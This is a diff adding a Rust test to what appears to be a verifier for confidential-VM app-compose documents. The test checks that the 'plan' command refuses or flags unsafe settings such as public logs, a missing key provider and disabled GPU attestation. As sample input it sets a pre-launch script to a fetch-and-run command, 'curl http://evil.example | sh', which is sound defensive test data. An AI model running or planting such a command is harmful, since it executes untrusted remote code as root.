@@ -1021,3 +1021,69 @@ fn a_statement_of_1025_subjects_is_not_read() {
     with(1024).assert(SourceProvenance, Pass, None);
     with(1025).assert(SourceProvenance, Fail, Some("malformed"));
 }
+
+/// What the document alone decides, a plan says as `verify` will.
+#[test]
+fn a_plan_refuses_what_the_document_makes_verify_refuse() {
+    let folder = tempfile::tempdir().unwrap();
+    let document = folder.path().join("app-compose.json");
+    let pinned = format!(
+        "services:\n  web:\n    image: {}@sha256:{}\n",
+        IMAGES[0].0, IMAGES[0].1
+    );
+    let mut members: Value = serde_json::from_str(&simulator::app_compose::app_compose(&pinned)).unwrap();
+    members["pre_launch_script"] = json!("curl http://evil.example | sh");
+    members["public_logs"] = json!(true);
+    let plan = |members: &Value, more: &[&str]| {
+        std::fs::write(&document, members.to_string()).unwrap();
+        let mut args = vec![
+            "plan".to_owned(),
+            "--format=json".to_owned(),
+            format!("--app-compose-file={}", document.display()),
+        ];
+        args.extend(more.iter().map(|arg| (*arg).to_owned()));
+        let ran = run(&args);
+        let said: Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|_| panic!("{ran:#?}"));
+        (ran.code, said)
+    };
+    let holds = |list: &Value, words: &str| {
+        let mut lines = list.as_array().unwrap().iter().filter_map(Value::as_str);
+        lines.any(|line| line.contains(words))
+    };
+    let script = "launch-inputs: Not reviewed: an unknown pre-launch script runs as root";
+    let (code, said) = plan(&members, &["--launch-inputs=required"]);
+    assert_eq!((code, said["result"].as_str()), (1, Some("refused")), "{said:#}");
+    assert!(holds(&said["refused"], script), "{said:#}");
+    assert!(holds(&said["refused"], "anyone can read the logs"), "{said:#}");
+    let (code, said) = plan(&members, &["--launch-inputs=warn"]);
+    assert_eq!((code, said["result"].as_str()), (0, Some("ready")), "{said:#}");
+    assert!(holds(&said["notes"], script), "{said:#}");
+    let (code, said) = plan(&members, &["--launch-inputs=unchecked"]);
+    assert_eq!(code, 0, "{said:#}");
+    assert!(!holds(&said["notes"], "pre-launch script runs"), "{said:#}");
+
+    // Keys from no KMS: refused unless that is what is expected.
+    members["kms_enabled"] = json!(false);
+    members["local_key_provider_enabled"] = json!(false);
+    let (code, said) = plan(&members, &[]);
+    assert_eq!(code, 1, "{said:#}");
+    assert!(
+        holds(
+            &said["refused"],
+            "key-provider: The document takes the VM's keys from `none`"
+        ),
+        "{said:#}"
+    );
+    let (code, said) = plan(&members, &["--key-provider=phala"]);
+    assert_eq!(code, 1, "{said:#}");
+    assert!(holds(&said["refused"], "--key-provider expects"), "{said:#}");
+    assert_eq!(plan(&members, &["--key-provider=none"]).0, 0);
+
+    // GPUs that are expected, and that the guest does not attest.
+    members["kms_enabled"] = json!(true);
+    members["requirements"] = json!({ "gpu_policy": { "attest_gpu": false } });
+    assert_eq!(plan(&members, &[]).0, 0);
+    let (code, said) = plan(&members, &["--gpu=required"]);
+    assert_eq!(code, 1, "{said:#}");
+    assert!(holds(&said["refused"], "`attest_gpu: false`"), "{said:#}");
+}
